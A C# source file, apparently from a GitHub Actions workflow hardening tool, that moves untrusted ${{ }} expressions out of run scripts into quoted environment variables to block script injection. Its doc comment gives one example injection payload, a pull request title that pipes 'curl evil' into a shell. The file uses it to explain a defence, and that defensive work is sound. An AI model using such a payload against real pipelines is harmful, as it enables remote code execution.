using System;
using System.Collections.Generic;
using System.Linq;
using System.Text;
using Spectra.Generators.Common;
using Spectra.Generators.Values;
using Spectra.Generators.Workflows.Model;

namespace Spectra.Generators.Workflows.Hardening;

/// <summary>
/// Moves untrusted expressions out of scripts (SPX4001). GitHub pastes <c>${{ … }}</c> into the script text
/// before the shell runs, so a pull request titled <c>"; curl evil | sh; "</c> becomes code. An environment
/// variable is read by the shell as data. The variable is written where the expression was, quoted for its
/// place in the script, so the script still sees the same text.
/// </summary>
internal static class UntrustedInputHoisting
{
    public static StepModel Apply(StepModel step, JobModel job, WorkflowModel workflow)
    {
        if (UntrustedInputPlan.For(step, job, workflow) is not { CannotMove: null } plan)
        {
            return step;
        }

        var script = Rewrite(plan);
        var env = step.Env.Concat(NewVariables(plan, workflow, job, step)).ToEquatableArray();
        if (plan.Language != ScriptLanguage.JavaScript)
        {
            return step with { Run = script, Env = env };
        }

        var with = step.With.Select(entry => entry.Key == "script" ? new MapEntry("script", new StringValue(script)) : entry).ToEquatableArray();
        return step with { With = with, Env = env };
    }

    private static string Rewrite(UntrustedInputPlan plan)
    {
        var script = new StringBuilder(plan.Script);
        foreach (var input in plan.Inputs.OrderByDescending(i => i.Span.Start))
        {
            var (start, end) = (input.Span.Start, input.Span.End);
            var reference = Reference(plan.Language, input.Quote, input.EnvName);
            if (Splices(plan.Language, input.Quote) is { } quote)
            {
                // 'x${{ … }}' becomes 'x'"$NAME"'' (bash) or 'x' + process.env.NAME + '' (JS): drop the empty
                // string the splice leaves when the expression starts or ends its quoted string.
                if (end < plan.Script.Length && plan.Script[end] == quote)
                {
                    reference = reference.Substring(0, reference.LastIndexOf(quote));
                    reference = plan.Language == ScriptLanguage.JavaScript ? reference.Substring(0, reference.Length - 3) : reference;
                    end++;
                }

                if (start > 0 && plan.Script[start - 1] == quote && (start < 2 || plan.Script[start - 2] != '\\'))
                {
                    reference = reference.Substring(reference.IndexOf(quote) + 1);
                    reference = plan.Language == ScriptLanguage.JavaScript ? reference.Substring(3) : reference;
                    start--;
                }
            }

            script.Remove(start, end - start);
            script.Insert(start, reference);
        }

        return script.ToString();
    }

    /// <summary>The quote that a reference closes and reopens around itself, when it does.</summary>
    private static char? Splices(ScriptLanguage language, QuoteContext quote) => (language, quote) switch
    {
        (ScriptLanguage.Posix, QuoteContext.Single) or (ScriptLanguage.JavaScript, QuoteContext.Single) => '\'',
        (ScriptLanguage.JavaScript, QuoteContext.Double) => '"',
        _ => null,
    };

    /// <summary>The variable, written so that in its place it expands to exactly the value and is never parsed as code.</summary>
    private static string Reference(ScriptLanguage language, QuoteContext quote, string name) => (language, quote) switch
    {
        (ScriptLanguage.Posix, QuoteContext.Double) => "${" + name + "}",
        (ScriptLanguage.Posix, QuoteContext.Single) => "'\"$" + name + "\"'", // close the quote, splice, reopen
        (ScriptLanguage.Posix, _) => "\"$" + name + "\"",
        (ScriptLanguage.PowerShell, QuoteContext.Double) => "${env:" + name + "}",
        (ScriptLanguage.PowerShell, _) => "$env:" + name,
        (ScriptLanguage.Cmd, _) => "%" + name + "%",
        (ScriptLanguage.JavaScript, QuoteContext.Single) => "' + process.env." + name + " + '",
        (ScriptLanguage.JavaScript, QuoteContext.Double) => "\" + process.env." + name + " + \"",
        (ScriptLanguage.JavaScript, QuoteContext.Template) => "${process.env." + name + "}",
        (ScriptLanguage.JavaScript, _) => "process.env." + name,
        _ => throw new InvalidOperationException("No variable syntax for " + language),
    };

    private static IEnumerable<StringPair> NewVariables(UntrustedInputPlan plan, WorkflowModel workflow, JobModel job, StepModel step)
    {
        var declared = new HashSet<string>(workflow.Env.Concat(job.Env).Concat(step.Env).Select(p => p.Key), StringComparer.OrdinalIgnoreCase);
        foreach (var input in plan.Inputs)
        {
            if (declared.Add(input.EnvName))
            {
                yield return new StringPair(input.EnvName, input.Text);
            }
        }
    }
}
